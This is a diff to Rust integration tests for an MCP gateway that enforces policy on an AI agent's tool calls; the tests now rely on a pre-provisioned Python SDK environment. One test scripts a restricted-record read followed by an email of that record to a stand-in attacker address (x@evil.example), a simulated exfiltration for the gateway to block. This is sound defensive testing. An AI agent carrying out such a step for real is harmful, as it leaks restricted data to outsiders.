@@ -2,9 +2,10 @@
 //! official MCP Python SDK's server (tests/mcp/crm_server.py) behind the
 //! gateway, driven by the SDK's client (tests/mcp/client.py).
 //!
-//! The SDK lives in a virtual environment: `$WARD_MCP_VENV` if set (`.ci/run`
-//! makes one), otherwise `mcp-venv` in the target directory, created here
-//! when missing (`python3 -m venv`, then `pip install` of the pinned SDK).
+//! The SDK lives in the virtual environment `$WARD_MCP_VENV`, which
+//! `scripts/test` provisions (scripts/provision/mcp.sh, the pinned SDK).
+//! Without it these tests fail (see `ward_testkit::require`); they never
+//! install anything themselves.
 
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
 
@@ -13,9 +14,6 @@ use std::process::Command;
 use std::sync::OnceLock;
 
 use serde_json::{Value as Json, json};
-
-/// The SDK version the tests are written against.
-const MCP_SDK: &str = "mcp==2.3.0";
 
 fn ward() -> &'static str {
     env!("CARGO_BIN_EXE_ward")
@@ -32,30 +30,26 @@ fn has_sdk(python: &Path) -> bool {
         .is_ok_and(|o| o.status.success())
 }
 
-/// The venv's python, made on first use.
-fn python() -> &'static Path {
-    static PYTHON: OnceLock<PathBuf> = OnceLock::new();
-    PYTHON.get_or_init(|| {
-        let venv = match std::env::var_os("WARD_MCP_VENV") {
-            Some(v) => PathBuf::from(v),
-            // target/debug/ward → target/mcp-venv
-            None => Path::new(ward()).parent().and_then(Path::parent).unwrap().join("mcp-venv"),
-        };
-        let python = venv.join("bin").join("python");
-        if has_sdk(&python) {
-            return python;
-        }
-        let made = Command::new("python3").arg("-m").arg("venv").arg(&venv).status();
-        assert!(
-            made.is_ok_and(|s| s.success()),
-            "cannot create a virtual environment at {} (python3 -m venv)",
-            venv.display()
-        );
-        let pip = Command::new(&python).args(["-m", "pip", "install", "-q", MCP_SDK]).status();
-        assert!(pip.is_ok_and(|s| s.success()), "cannot install {MCP_SDK} into {}", venv.display());
-        assert!(has_sdk(&python), "{MCP_SDK} is installed but does not import");
-        python
-    })
+/// The venv's python, if the SDK is there (otherwise the test fails, or
+/// returns when `WARD_ALLOW_SKIP` names `mcp`).
+fn python() -> Option<&'static Path> {
+    static PYTHON: OnceLock<Option<PathBuf>> = OnceLock::new();
+    PYTHON
+        .get_or_init(|| {
+            let provision = "scripts/test provisions it (scripts/provision/mcp.sh) and exports WARD_MCP_VENV";
+            let Some(venv) = std::env::var_os("WARD_MCP_VENV") else {
+                ward_testkit::missing("mcp", "WARD_MCP_VENV is not set: no MCP Python SDK", provision);
+                return None;
+            };
+            let python = PathBuf::from(venv).join("bin").join("python");
+            if !has_sdk(&python) {
+                let problem = format!("the MCP Python SDK does not import with {}", python.display());
+                ward_testkit::missing("mcp", &problem, provision);
+                return None;
+            }
+            Some(python)
+        })
+        .as_deref()
 }
 
 fn server_script() -> String {
@@ -68,8 +62,7 @@ fn policy() -> String {
 
 /// Runs the SDK client through `ward mcp-proxy` (with `extra` options) and
 /// returns one JSON answer per step.
-fn drive(mode: &str, agent: &str, extra: &[&str], steps: Json) -> Vec<Json> {
-    let python = python();
+fn drive(python: &Path, mode: &str, agent: &str, extra: &[&str], steps: Json) -> Vec<Json> {
     let mut proxy: Vec<String> =
         vec![ward().into(), "mcp-proxy".into(), "--policy".into(), policy(), "--agent".into(), agent.into()];
     proxy.extend(extra.iter().map(|s| s.to_string()));
@@ -102,7 +95,9 @@ fn error_of(answer: &Json) -> (i64, String) {
 
 #[test]
 fn a_permitted_call_is_masked_a_forbidden_one_refused_and_the_list_filtered() {
+    let Some(py) = python() else { return };
     let answers = drive(
+        py,
         "auto", // probes `server/discover`, which must pass through
         "Agent::\"support_bot\"",
         &[],
@@ -143,9 +138,11 @@ fn a_permitted_call_is_masked_a_forbidden_one_refused_and_the_list_filtered() {
 
 #[test]
 fn a_flow_rule_blocks_mail_after_a_restricted_read_and_every_call_is_audited() {
+    let Some(py) = python() else { return };
     let dir = tempdir("flow");
     let audit = dir.join("audit.jsonl");
     let answers = drive(
+        py,
         "legacy", // the initialize handshake
         "records_bot",
         &["--audit-log", audit.to_str().unwrap()],
@@ -179,7 +176,9 @@ fn a_flow_rule_blocks_mail_after_a_restricted_read_and_every_call_is_audited() {
 
 #[test]
 fn a_hanging_or_dying_server_yields_errors_not_a_hung_session() {
+    let Some(py) = python() else { return };
     let answers = drive(
+        py,
         "legacy",
         "support_bot",
         // Long enough for the server to start on a loaded machine; the hang outlasts it.
@@ -202,13 +201,14 @@ fn a_hanging_or_dying_server_yields_errors_not_a_hung_session() {
 
 #[test]
 fn mcp_schema_writes_a_schema_that_checks() {
+    let Some(py) = python() else { return };
     let dir = tempdir("schema");
     let schema = dir.join("schema.ward");
     let out = Command::new(ward())
         .args(["mcp-schema", "-o"])
         .arg(&schema)
         .arg("--")
-        .arg(python())
+        .arg(py)
         .arg(server_script())
         .output()
         .unwrap();
@@ -254,10 +254,11 @@ impl Drop for Killed {
 
 #[test]
 fn the_http_mode_guards_a_streamable_http_server() {
+    let Some(py) = python() else { return };
     use std::io::BufRead;
     let port = free_port();
     let _server = Killed(
-        Command::new(python())
+        Command::new(py)
             .arg(server_script())
             .args(["--http", &port.to_string()])
             .stdout(std::process::Stdio::null())
@@ -292,7 +293,7 @@ fn the_http_mode_guards_a_streamable_http_server() {
         ["call", "read_restricted_record", {"record_id": "r-9"}],
         ["call", "send_email", {"to": "x@evil.example", "subject": "fyi", "body": "r-9"}],
     ]);
-    let out = Command::new(python())
+    let out = Command::new(py)
         .arg(repo().join("tests/mcp/client.py"))
         .args(["legacy", &steps.to_string(), "--url", &format!("{addr}/mcp")])
         .output()
